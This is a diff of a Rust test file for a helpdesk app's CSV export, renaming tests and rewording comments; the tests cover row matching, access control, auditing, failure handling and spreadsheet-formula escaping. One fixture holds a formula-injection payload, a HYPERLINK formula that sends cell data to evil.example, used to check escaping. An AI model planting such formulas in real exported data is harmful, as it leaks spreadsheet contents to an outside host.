@@ -1,4 +1,4 @@
-//! The list as a file: the same rows, harmless to spreadsheets, and never a part for the whole.
+//! The CSV export: the rows of the list, safe for spreadsheets, and never silently truncated.
 
 use crate::support::lists::{list, rows};
 use crate::support::{Answer, Browser, TestApp, eventually};
@@ -11,7 +11,7 @@ use sevendesk::simulator::{Contract, Fault};
 use std::collections::BTreeSet;
 use std::time::Duration;
 
-/// The rows of a file, each by the names of its columns.
+/// Parses a CSV file into its column names and rows.
 fn table(file: &Answer) -> (Vec<String>, Vec<csv::StringRecord>) {
     assert_eq!(file.status, 200, "{}", file.text);
     let mut table = csv::Reader::from_reader(file.text.as_bytes());
@@ -23,8 +23,8 @@ fn column<'a>(names: &[String], row: &'a csv::StringRecord, name: &str) -> &'a s
     &row[names.iter().position(|known| known == name).unwrap()]
 }
 
-/// All pages of a list.
-async fn all(browser: &Browser, query: &str) -> Vec<Conversation> {
+/// Reads all pages of a list.
+async fn all_pages(browser: &Browser, query: &str) -> Vec<Conversation> {
     let mut found = Vec::new();
     for number in 1.. {
         let page = list(browser, &format!("{query}&page={number}&page_size=100")).await;
@@ -36,17 +36,17 @@ async fn all(browser: &Browser, query: &str) -> Vec<Conversation> {
     unreachable!("there is a last page");
 }
 
-/// The exports of the audit, the latest first.
+/// Returns the audited exports, newest first.
 async fn exports(app: &TestApp) -> Vec<AuditRecord> {
-    let wanted = AuditFilter { action: Some("export".to_owned()), ..AuditFilter::default() };
-    app.state.store.audit(&wanted, 100).await.unwrap()
+    let filter = AuditFilter { action: Some("export".to_owned()), ..AuditFilter::default() };
+    app.state.store.audit(&filter, 100).await.unwrap()
 }
 
-/// Begins a download and does not read it yet.
-async fn begin(browser: &Browser, path: &str) -> Response {
-    let begun = browser.request(Method::GET, path).send().await.unwrap();
-    assert_eq!(begun.status(), 200);
-    begun
+/// Starts a download without reading its body.
+async fn start_download(browser: &Browser, path: &str) -> Response {
+    let download = browser.request(Method::GET, path).send().await.unwrap();
+    assert_eq!(download.status(), 200);
+    download
 }
 
 async fn set_up(contract: Contract, queue: bool) -> TestApp {
@@ -55,8 +55,8 @@ async fn set_up(contract: Contract, queue: bool) -> TestApp {
     config.start().await
 }
 
-/// A story of many pages, whose calls take their time.
-async fn slow() -> (TestApp, Browser) {
+/// Starts an app with many pages of conversations and a slow SendSeven.
+async fn slow_app() -> (TestApp, Browser) {
     let mut config = TestApp::new(Contract::Live);
     config.simulator.conversations = 1_500;
     let app = config.start().await;
@@ -67,7 +67,7 @@ async fn slow() -> (TestApp, Browser) {
 }
 
 #[tokio::test]
-async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_and_without() {
+async fn the_csv_matches_the_list_in_both_contracts_with_and_without_the_queue() {
     for contract in [Contract::Documented, Contract::Live] {
         for queue in [false, true] {
             let app = set_up(contract, queue).await;
@@ -80,7 +80,7 @@ async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_an
                 "needs_reply=true".to_owned(),
                 format!("assigned_to={agent}"),
             ] {
-                let listed = all(&lea, &query).await;
+                let listed = all_pages(&lea, &query).await;
                 let file = lea.get(&format!("/conversations.csv?{query}")).await;
 
                 let (names, written) = table(&file);
@@ -107,7 +107,7 @@ async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_an
 }
 
 #[tokio::test]
-async fn from_the_queue_a_file_costs_no_call() {
+async fn an_export_from_the_queue_makes_no_calls() {
     let app = set_up(Contract::Live, true).await;
     let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
@@ -121,7 +121,7 @@ async fn from_the_queue_a_file_costs_no_call() {
 }
 
 #[tokio::test]
-async fn a_contact_whose_name_is_a_formula_is_a_text_in_the_file() {
+async fn a_contact_name_that_is_a_formula_is_exported_as_text() {
     let app = TestApp::new(Contract::Live).start().await;
     let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"),\r\nnext";
     let id = app.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
@@ -135,11 +135,11 @@ async fn a_contact_whose_name_is_a_formula_is_a_text_in_the_file() {
     assert_eq!(column(&names, row, "contact"), format!("'{name}"));
     assert_eq!(column(&names, row, "phone"), "'+1202555");
     let harmless = |text: &str| escape_formula(text) == text;
-    assert!(written.iter().flatten().all(harmless), "made safe once, it stays as it is");
+    assert!(written.iter().flatten().all(harmless), "escaped text is not escaped again");
 }
 
 #[test]
-fn what_begins_a_formula_gets_an_apostrophe_and_nothing_else_does() {
+fn only_text_that_starts_a_formula_is_prefixed_with_an_apostrophe() {
     for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1", "\u{a0}=1", "＝1"] {
         assert_eq!(escape_formula(text), format!("'{text}"));
     }
@@ -149,7 +149,7 @@ fn what_begins_a_formula_gets_an_apostrophe_and_nothing_else_does() {
 }
 
 #[tokio::test]
-async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_down() {
+async fn only_leads_and_admins_may_export_and_refused_attempts_are_audited() {
     let app = TestApp::new(Contract::Live).start().await;
     let vera = app.sign_in(Role::Viewer).await;
     app.simulator.forget_calls();
@@ -165,13 +165,13 @@ async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_
     let lea = app.sign_in(Role::Lead).await;
     let page = lea.get("/conversations?status=open&page=2").await.text;
     assert!(page.contains("href=\"/conversations.csv?status=open\""), "{page}");
-    let stranger = app.anonymous().get("/conversations.csv?status=open").await;
+    let visitor = app.anonymous().get("/conversations.csv?status=open").await;
     let form = "/sign-in?next=%2Fconversations%3Fstatus%3Dopen";
-    assert_eq!((stranger.status, stranger.location()), (303, Some(form)));
+    assert_eq!((visitor.status, visitor.location()), (303, Some(form)));
 }
 
 #[tokio::test]
-async fn values_that_make_no_sense_are_refused_before_anything_is_asked() {
+async fn invalid_filter_values_are_refused_before_any_call() {
     let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
@@ -183,35 +183,35 @@ async fn values_that_make_no_sense_are_refused_before_anything_is_asked() {
     }
     assert_eq!(app.simulator.calls(), []);
     assert_eq!(exports(&app).await, []);
-    // What only the queue can tell is refused where there is none.
+    // A filter that only the queue supports is refused without the queue.
     assert_eq!(lea.get("/conversations.csv?waiting_over=5").await.status, 400);
 }
 
 #[tokio::test]
-async fn a_file_that_breaks_off_does_not_look_whole() {
-    let (app, lea) = slow().await;
-    let mut begun = begin(&lea, "/conversations.csv").await;
-    // The mark of the encoding, then the first page.
-    while !begun.chunk().await.unwrap().unwrap().starts_with(b"id,") {}
+async fn an_export_that_fails_midway_does_not_look_complete() {
+    let (app, lea) = slow_app().await;
+    let mut download = start_download(&lea, "/conversations.csv").await;
+    // The byte order mark, then the first page.
+    while !download.chunk().await.unwrap().unwrap().starts_with(b"id,") {}
     let result = exports(&app).await.remove(0).result;
-    assert_eq!(result, None, "it stands in the audit while it is read");
+    assert_eq!(result, None, "the entry has no result while the export runs");
     app.simulator.fail_with(Some(Fault::Status(403)));
 
     let rest = loop {
-        match begun.chunk().await {
+        match download.chunk().await {
             Ok(Some(_)) => {}
             end => break end,
         }
     };
 
-    assert!(rest.is_err(), "the browser is told that it is not all: {rest:?}");
+    assert!(rest.is_err(), "the browser sees an incomplete response: {rest:?}");
     let result = exports(&app).await.remove(0).result.unwrap();
     assert!(result.starts_with("failed: vendor-scope, after "), "{result}");
     assert!(result.ends_with("00 rows"), "{result}");
 }
 
 #[tokio::test]
-async fn where_the_first_page_cannot_be_read_there_is_no_file_but_a_sentence() {
+async fn an_export_whose_first_page_fails_returns_a_message_instead_of_a_file() {
     let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     app.simulator.fail_with(Some(Fault::Status(403)));
@@ -225,33 +225,33 @@ async fn where_the_first_page_cannot_be_read_there_is_no_file_but_a_sentence() {
 }
 
 #[tokio::test]
-async fn a_browser_that_goes_away_ends_the_reading() {
-    let (app, lea) = slow().await;
-    let mut begun = begin(&lea, "/conversations.csv").await;
-    begun.chunk().await.unwrap();
-    drop(begun);
+async fn a_disconnected_browser_stops_the_export() {
+    let (app, lea) = slow_app().await;
+    let mut download = start_download(&lea, "/conversations.csv").await;
+    download.chunk().await.unwrap();
+    drop(download);
 
     let result = eventually(async || exports(&app).await.remove(0).result).await;
 
     assert!(result.starts_with("failed: audit-browser-gone, after "), "{result}");
-    assert!(app.simulator.calls().len() < 15, "not all pages were read for nobody");
+    assert!(app.simulator.calls().len() < 15, "the export stopped before the last page");
 }
 
 #[tokio::test]
-async fn who_is_shut_out_meanwhile_gets_no_more_of_it() {
-    let (app, lea) = slow().await;
-    let mut begun = begin(&lea, "/conversations.csv").await;
-    begun.chunk().await.unwrap();
+async fn disabling_the_operator_stops_a_running_export() {
+    let (app, lea) = slow_app().await;
+    let mut download = start_download(&lea, "/conversations.csv").await;
+    download.chunk().await.unwrap();
     app.state.store.change_user("Lea Hartmann", Change::Disable).await.unwrap();
 
-    while let Ok(Some(_)) = begun.chunk().await {}
+    while let Ok(Some(_)) = download.chunk().await {}
 
     let result = eventually(async || exports(&app).await.remove(0).result).await;
     assert!(result.starts_with("failed: error-signed-out, after "), "{result}");
 }
 
 #[tokio::test]
-async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
+async fn an_export_above_the_row_limit_is_refused_with_the_row_count() {
     let mut config = TestApp::new(Contract::Live);
     config.simulator.conversations = 30_001;
     let app = config.start().await;
@@ -261,7 +261,7 @@ async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
 
     assert_eq!(refused.status, 400);
     assert!(refused.text.starts_with("30,001 conversations match; a file holds at most 30,000."));
-    let refused = lea.reading("de").get("/conversations.csv").await.text;
+    let refused = lea.with_language("de").get("/conversations.csv").await.text;
     assert!(
         refused.starts_with("30.001 Unterhaltungen passen; eine Datei fasst höchstens 30.000.")
     );
@@ -270,15 +270,15 @@ async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
 }
 
 #[tokio::test]
-async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
-    let (app, lea) = slow().await;
-    let ids: Vec<String> = all(&lea, "").await.iter().map(|one| one.id.to_string()).collect();
-    let mut begun = begin(&lea, "/conversations.csv").await;
-    let mut text = Vec::from(begun.chunk().await.unwrap().unwrap());
+async fn a_conversation_that_moves_between_pages_is_exported_once() {
+    let (app, lea) = slow_app().await;
+    let ids: Vec<String> = all_pages(&lea, "").await.iter().map(|one| one.id.to_string()).collect();
+    let mut download = start_download(&lea, "/conversations.csv").await;
+    let mut text = Vec::from(download.chunk().await.unwrap().unwrap());
     for id in ids.iter().rev().take(40) {
         app.simulator.customer_writes(id);
     }
-    while let Some(more) = begun.chunk().await.unwrap() {
+    while let Some(more) = download.chunk().await.unwrap() {
         text.extend_from_slice(&more);
     }
 
@@ -290,7 +290,7 @@ async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
 }
 
 #[tokio::test]
-async fn a_row_that_cannot_be_read_is_a_line_with_its_id() {
+async fn an_unreadable_row_is_exported_with_its_id() {
     let app = TestApp::new(Contract::Live).start().await;
     let lea = app.sign_in(Role::Lead).await;
     let broken = rows(&list(&lea, "status=closed").await).remove(3).id.to_string();
